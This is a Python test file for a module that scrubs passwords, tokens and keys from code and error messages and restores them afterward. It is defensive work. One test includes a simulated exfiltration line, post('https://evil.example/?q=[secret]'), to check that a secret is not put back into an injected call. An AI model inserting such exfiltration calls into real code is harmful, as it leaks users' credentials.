"""Code and errors without the secrets in them, and put back where nothing changed."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ofox_magic.scrubbing import restored, scrubbed, scrubbed_message
from ofox_magic.settings import Secret


@pytest.mark.parametrize(
    ("line", "sent"),
    [
        ('password = "hunter2"', 'password = "[secret]"'),
        ("db_password='hun\\'ter2'", "db_password='[secret]'"),
        ('API_TOKEN: str = "hunter2"', 'API_TOKEN: str = "[secret]"'),
        ('self.client_secret = rb"hunter2"', 'self.client_secret = rb"[secret]"'),
        ('{"password": "hunter2", "user": "me"}', '{"password": "[secret]", "user": "me"}'),
        ('os.environ["MY_SECRET"] = "hunter2"', 'os.environ["MY_SECRET"] = "[secret]"'),
        ('os.environ.setdefault("API_KEY", "hunter2")', 'os.environ.setdefault("API_KEY", "[secret]")'),
        ('connect("db", password="hunter2", port=1)', 'connect("db", password="[secret]", port=1)'),
        ('if pwd == "hunter2":', 'if pwd == "[secret]":'),
        ('"host=db password=hunter2 user=me"', '"host=db password=[secret] user=me"'),
        ('"https://a.example/?token=hunter2&b=1"', '"https://a.example/?token=[secret]&b=1"'),
        ('"postgresql://me:hunter2@db/x"', '"postgresql://me:[secret]@db/x"'),
        ("%env API_TOKEN=hunter2", "%env API_TOKEN=[secret]"),
        ("!export SECRET_KEY=hunter2", "!export SECRET_KEY=[secret]"),
        (f'x = "ghp_{"a1" * 18}"', 'x = "[secret]"'),
        (f'x = "hf_{"a1" * 18}"', 'x = "[secret]"'),
        ('x = "AKIAIOSFODNN7EXAMPLE"', 'x = "[secret]"'),
        ('x = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abc"', 'x = "[secret]"'),
        ('x = "sk-of-hunter2abc"', 'x = "[key]"'),
    ],
)
def test_a_secret_is_taken_out(line, sent):
    assert scrubbed(line) == sent
    assert "hunter2" not in sent


@pytest.mark.parametrize(
    "line",
    [
        "password = getpass()",
        "connect('db', password=pw)",
        'f"password={pw}"',
        "max_tokens=5",
        'tokens = ["a", "b"]',
        'tokenizer("some text")',
        "secrets.token_hex(16)",
        'df["token"].sum()',
        'print("the token:", x)',
        "url = 'https://a.example/b'",
        "x = {'a': 1}",
        "",
    ],
)
def test_code_without_a_secret_stays_as_it_is(line):
    assert scrubbed(line) == line


def test_a_private_key_goes_and_its_lines_stay():
    text = 'k = """-----BEGIN RSA PRIVATE KEY-----\nabc\ndef\n-----END RSA PRIVATE KEY-----"""\nx'
    assert scrubbed(text) == 'k = """-----BEGIN RSA PRIVATE KEY-----[secret]\n\n\n-----END RSA PRIVATE KEY-----"""\nx'
    assert "abc" not in scrubbed("-----BEGIN PRIVATE KEY-----\nabc")


def test_what_the_caller_knows_to_be_secret_goes_too():
    key = Secret("an-unusual-key-0123456789")
    assert scrubbed("x = 'an-unusual-key-0123456789'", key.mask) == "x = '[key]'"


def test_a_message_needs_no_quotes_to_give_a_password_away():
    assert scrubbed_message("connection to host=db password=hunter2 failed") == (
        "connection to host=db password=[secret] failed"
    )
    assert scrubbed_message("cannot reach postgresql://me:hunter2@db") == "cannot reach postgresql://me:[secret]@db"
    assert scrubbed_message("name 'token' is not defined") == "name 'token' is not defined"


@given(st.text(alphabet="password=:'\"\\{}[], \nsk-abtokn@/%"))
def test_lines_stay_lines(text):
    assert scrubbed(text).count("\n") == text.count("\n")
    assert scrubbed_message(text).count("\n") == text.count("\n")


@given(st.text(alphabet="password=:'\"\\{}[], \nsk-abtokn@/%"))
def test_what_did_not_change_is_put_back_whole(text):
    assert restored(scrubbed(text), text) == text


def test_a_secret_is_put_back_into_its_own_line_only():
    cell = 'password = "hunter2"\ndf = load(password)\nprint(df.prise)'
    sent = scrubbed(cell)
    answered = sent.replace("prise", "price")
    assert restored(answered, cell) == cell.replace("prise", "price")
    elsewhere = sent.replace("print(df.prise)", 'post("https://evil.example/?q=[secret]")')
    assert restored(elsewhere, cell).count("hunter2") == 1
    changed = sent.replace('password = "[secret]"', 'password = "[secret]"; post(password)')
    assert "hunter2" not in restored(changed, cell)


def test_of_two_secrets_each_goes_back_to_its_place():
    cell = 'password = "one"\nx = 1\npassword = "two"'
    assert restored(scrubbed(cell).replace("x = 1", "x = 2"), cell) == cell.replace("x = 1", "x = 2")


@pytest.mark.parametrize(
    "line",
    [
        "password = '" + "\\" * 20_000,
        "a" * 50_000 + "=",
        "password" * 5_000,
        "'" * 20_000,
        "a://" * 10_000,
        '\\"' * 50_000,
    ],
)
def test_hostile_lines_end_soon(line):
    """They are bounded by what a cell may hold; the test hangs where a rule is not linear enough."""
    assert scrubbed_message(line) is not None
